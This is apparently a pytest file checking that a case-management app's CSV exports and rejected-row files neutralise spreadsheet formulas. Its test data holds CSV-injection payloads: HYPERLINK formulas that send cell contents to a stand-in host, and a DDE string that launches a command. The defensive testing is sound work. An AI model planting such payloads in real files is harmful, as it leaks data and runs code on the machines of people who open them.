"""Every CSV caseflow writes opens in a spreadsheet without running a formula (CSV injection)."""

from __future__ import annotations

import csv
import io

import pytest

from caseflow.csv_cells import neutralise, restore

FORMULAS = ['=HYPERLINK("http://x.example/?"&A2,"clic")', "+1+cmd|' /C calc'!A0", "-2+3",
            "@SUM(A1:A9)", "\t=1+2", "\r=1+2"]


@pytest.mark.parametrize("text", FORMULAS)
def test_it_quotes_a_cell_that_a_spreadsheet_would_run(text):
    assert neutralise(text) == "'" + text
    assert restore(neutralise(text)) == text


@pytest.mark.parametrize("value", ["-3", "+33", "12", "12.5", "-1,5", "Diallo", "", "<5", "x",
                                   "O'Brien", "'quoted"])
def test_it_leaves_numbers_and_plain_text_as_they_are(value):
    assert neutralise(value) == value and restore(value) == value


def test_it_writes_python_numbers_as_numbers():
    assert neutralise(-3) == -3 and neutralise(2.5) == 2.5 and neutralise(None) == ""


def test_it_quotes_a_formula_name_in_the_rejected_rows_of_an_import(app, runner, tmp_path):
    """Omar's colleague opens calais.rejected.csv in Excel: the name must not run."""
    sheet = tmp_path / "calais.csv"
    sheet.write_text("family_name,given_names,birth_date\n"
                     '"=HYPERLINK(""http://x.example/""&B2,""voir"")",-Awa,2008-13-40\n'
                     "@Kamara,+Ibrahim,2008-14-01\n", encoding="utf-8")
    rejected = tmp_path / "calais.rejected.csv"
    result = runner.invoke(args=["import-persons", str(sheet), "--site", "CAL",
                                 "--skip-invalid", "--rejected", str(rejected)])
    assert result.exit_code == 0, result.output
    rows = list(csv.reader(io.StringIO(rejected.read_text(encoding="utf-8"))))
    assert rows[1][:2] == ['\'=HYPERLINK("http://x.example/"&B2,"voir")', "'-Awa"]
    assert rows[2][:2] == ["'@Kamara", "'+Ibrahim"]
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


def test_it_quotes_formula_labels_in_the_indicator_csv(app, monkeypatch):
    """A label that begins with "=" (a category code typed by a team) is quoted in the export;
    counts stay plain numbers."""
    from caseflow.reports import exports
    from caseflow.reports.period import Month

    real_rows = exports.rows

    def rows_with_formula(*args, **kwargs):
        table = real_rows(*args, **kwargs)
        table[0] = ["=1+2", "-x", "@y", *table[0][3:]]
        return table

    monkeypatch.setattr(exports, "rows", rows_with_formula)
    with app.test_request_context():
        body = exports._csv(Month(2026, 3), None, "en").decode("utf-8-sig")
    lines = list(csv.reader(io.StringIO(body)))
    assert lines[2][:4] == ["'=1+2", "'-x", "'@y", "0"]
